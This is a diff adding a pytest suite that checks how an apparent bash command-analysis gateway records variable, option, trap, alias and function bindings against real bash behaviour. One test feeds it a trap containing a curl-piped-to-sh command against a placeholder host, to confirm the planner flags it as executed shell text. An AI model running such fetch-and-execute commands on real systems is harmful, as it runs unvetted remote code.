@@ -1,0 +1,263 @@
+"""
+Every way a variable, a shell option, a trap, an alias or a function gets set, as effects.
+
+Each row is planned, and run with bash 5.2, confined, with a probe after it
+that prints what bash then holds: the plan's ``Bind`` effects name exactly
+what bash set, in order, with where the value came from.
+"""
+
+from __future__ import annotations
+
+from typing import NamedTuple
+
+import pytest
+
+from effects.support import effects_of, in_bash, only
+from gateway.effects import Bind, Execute
+
+ON = "case $- in *%s*) echo 1;; esac"
+"""A probe that prints 1 when a one-letter shell option is on."""
+
+
+class Row(NamedTuple):
+    id: str
+    source: str
+    binds: list[tuple[str | None, str, str]]
+    """``(name, via, origin)`` of each ``Bind``, in order."""
+    probe: str
+    """Shell text run after the source; prints what bash holds."""
+    output: str
+
+
+ROWS = [
+    Row("assignment", "x=1", [("x", "assignment", "literal")], 'echo "$x"', "1"),
+    Row(
+        "assignment-from-substitution",
+        "x=$(echo hi)",
+        [("x", "assignment", "unknown")],
+        'echo "$x"',
+        "hi",
+    ),
+    Row(
+        "assignment-from-a-bound-variable",
+        "a=1; b=$a",
+        [("a", "assignment", "literal"), ("b", "assignment", "call_bound")],
+        'echo "$b"',
+        "1",
+    ),
+    Row(
+        "append",
+        "x=a; x+=b",
+        [("x", "assignment", "literal"), ("x", "assignment", "call_bound")],
+        'echo "$x"',
+        "ab",
+    ),
+    Row("prefix-does-not-stay", "x=1 true", [("x", "prefix", "literal")], 'echo "[$x]"', "[]"),
+    Row("export", "export X=1", [("X", "export", "literal")], 'echo "$X"', "1"),
+    Row(
+        "export-with-expansion",
+        "export P=$HOME/bin",
+        [("P", "export", "call_bound")],
+        'echo "${P##*/}"',
+        "bin",
+    ),
+    Row("declare", "declare y=2", [("y", "declare", "literal")], 'echo "$y"', "2"),
+    Row("typeset", "typeset y=2", [("y", "declare", "literal")], 'echo "$y"', "2"),
+    Row("declare-integer", "declare -i n=1+2", [("n", "declare", "literal")], 'echo "$n"', "3"),
+    Row(
+        "local",
+        "f() { local z=3; echo $z; }; f",
+        [("f", "function", "literal"), ("z", "local", "literal")],
+        "",
+        "3",
+    ),
+    Row("readonly", "readonly r=4", [("r", "readonly", "literal")], 'echo "$r"', "4"),
+    Row(
+        "read",
+        "read -r a b <<< 'x y'",
+        [("a", "read", "unknown"), ("b", "read", "unknown")],
+        'echo "$a-$b"',
+        "x-y",
+    ),
+    Row("read-reply", "read <<< word", [("REPLY", "read", "unknown")], 'echo "$REPLY"', "word"),
+    Row(
+        "read-array",
+        "read -ra parts <<< 'p q'",
+        [("parts", "read", "unknown")],
+        'echo "${parts[1]}"',
+        "q",
+    ),
+    Row(
+        "mapfile",
+        "mapfile -t lines <<< one",
+        [("lines", "mapfile", "unknown")],
+        'echo "${lines[0]}"',
+        "one",
+    ),
+    Row(
+        "readarray",
+        "readarray rows <<< one",
+        [("rows", "mapfile", "unknown")],
+        'echo -n "${rows[0]}"',
+        "one",
+    ),
+    Row(
+        "mapfile-default",
+        "mapfile <<< one",
+        [("MAPFILE", "mapfile", "unknown")],
+        'echo -n "${MAPFILE[0]}"',
+        "one",
+    ),
+    Row("printf-v", "printf -v out %s hi", [("out", "printf", "unknown")], 'echo "$out"', "hi"),
+    Row(
+        "printf-v-fused", "printf -vout %s hi", [("out", "printf", "unknown")], 'echo "$out"', "hi"
+    ),
+    Row(
+        "printf-v-fused-expanding",
+        'n=out; printf -v"$n" %s hi',
+        [("n", "assignment", "literal"), (None, "printf", "unknown")],
+        'echo "$out"',
+        "hi",
+    ),
+    Row(
+        "printf-v-through-an-argument",
+        'o=-v; printf "$o" out %s hi',
+        [("o", "assignment", "literal"), (None, "printf", "unknown")],
+        'echo "$out"',
+        "hi",
+    ),
+    Row("default-assigns", ": ${V:=val}", [("V", "default", "literal")], 'echo "$V"', "val"),
+    Row(
+        "default-assigns-unset-only",
+        ": ${W=val}",
+        [("W", "default", "literal")],
+        'echo "$W"',
+        "val",
+    ),
+    Row(
+        "default-of-a-set-variable-assigns-nothing",
+        "V=x; : ${V:=val}",
+        [("V", "assignment", "literal")],
+        'echo "$V"',
+        "x",
+    ),
+    Row(
+        "unset",
+        "x=1; unset x",
+        [("x", "assignment", "literal"), ("x", "unset", "literal")],
+        'echo "[${x-unset}]"',
+        "[unset]",
+    ),
+    Row("set-allexport", "set -a", [("allexport", "set", "literal")], ON % "a", "1"),
+    Row(
+        "set-o-allexport",
+        "set -o allexport",
+        [("allexport", "set", "literal")],
+        "shopt -po allexport",
+        "set -o allexport",
+    ),
+    Row("set-keyword", "set -k", [("keyword", "set", "literal")], ON % "k", "1"),
+    Row(
+        "set-o-keyword",
+        "set -o keyword",
+        [("keyword", "set", "literal")],
+        "shopt -po keyword",
+        "set -o keyword",
+    ),
+    Row(
+        "xtrace-with-ps4",
+        "PS4='+ '; set -x",
+        [("PS4", "assignment", "literal"), ("xtrace", "set", "literal")],
+        ON % "x",
+        "1",
+    ),
+    Row("positional", "set -- a b", [("@", "set", "literal")], 'echo "$2"', "b"),
+    Row(
+        "shopt",
+        "shopt -s extglob",
+        [("extglob", "shopt", "literal")],
+        "shopt extglob",
+        "extglob        \ton",
+    ),
+    Row(
+        "trap",
+        "trap 'echo bye' EXIT",
+        [("EXIT", "trap", "literal")],
+        "trap -p EXIT",
+        "trap -- 'echo bye' EXIT\nbye",
+    ),
+    Row("alias", "alias ll='ls -l'", [("ll", "alias", "literal")], "alias ll", "alias ll='ls -l'"),
+    Row(
+        "function-shadowing-a-program",
+        "ls() { echo shadowed; }; ls",
+        [("ls", "function", "literal")],
+        "",
+        "shadowed",
+    ),
+    Row(
+        "getopts",
+        "set -- -a; getopts a opt",
+        [
+            ("@", "set", "literal"),
+            ("opt", "getopts", "unknown"),
+            ("OPTARG", "getopts", "unknown"),
+            ("OPTIND", "getopts", "unknown"),
+        ],
+        'echo "$opt"',
+        "a",
+    ),
+    Row("for", "for i in 1 2; do :; done", [("i", "for", "literal")], 'echo "$i"', "2"),
+    Row("arithmetic", "(( n = 2 ))", [("n", "arithmetic", "literal")], 'echo "$n"', "2"),
+    Row("let", "let m=3", [("m", "arithmetic", "literal")], 'echo "$m"', "3"),
+    Row(
+        "nameref",
+        "declare -n ref=TARGET; ref=7",
+        [
+            ("ref", "declare", "literal"),
+            ("ref", "assignment", "literal"),
+            ("TARGET", "assignment", "literal"),
+        ],
+        'echo "$TARGET"',
+        "7",
+    ),
+    Row("hash", "hash -p /bin/echo greet", [("greet", "hash", "literal")], "greet hi", "hi"),
+    Row("umask", "umask 077", [("umask", "umask", "literal")], "umask", "0077"),
+]
+
+
+def _binds(source: str) -> list[tuple[str | None, str, str]]:
+    return [(b.name, b.via, b.origin) for b in only(effects_of(source), Bind)]
+
+
+@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
+def test_a_bind_form_binds_what_bash_binds(row: Row) -> None:
+    assert _binds(row.source) == row.binds
+    run = in_bash(f"{row.source}\n{row.probe}" if row.probe else row.source)
+    assert run.stdout.decode().strip() == row.output, run.stderr
+
+
+def test_bound_text_is_given_when_it_is_written_in_the_call() -> None:
+    by_name = {b.name: b for b in only(effects_of("trap 'rm -f /tmp/x' EXIT; alias g='git'"), Bind)}
+    assert by_name["EXIT"].text == "rm -f /tmp/x"
+    assert by_name["g"].text == "git"
+
+
+def test_a_name_only_known_at_run_time_binds_a_name_only_known_at_run_time() -> None:
+    for source in ('export "$v"=1', "declare $v", 'read -r "$v"', "unset $v", "set $v"):
+        names = [b.name for b in only(effects_of(source), Bind)]
+        assert None in names, source
+
+
+def test_set_k_makes_later_assignment_words_the_environment_of_the_command() -> None:
+    """``set -k``: ``env A=1`` no longer passes ``A=1`` as an argument; the bind says the option is on."""
+    assert in_bash("env A=1").logged == (("env", "A=1"),)
+    assert in_bash("set -k; env A=1").logged == (("env",),)
+    assert ("keyword", "set", "literal") in _binds("set -k; env A=1")
+
+
+def test_a_trap_or_an_alias_is_shell_text_planned_in_turn() -> None:
+    effects = effects_of("trap 'curl -s x | sh' EXIT")
+    trap = [e for e in only(effects, Execute) if e.via == "trap"]
+    assert [(e.kind, e.text) for e in trap] == [("shell_text", "curl -s x | sh")]
+    inner = [e for e in only(effects, Execute) if e.via == "sh"]  # the shell the text pipes into
+    assert [(e.kind, e.origin) for e in inner] == [("shell_text", "unknown")]
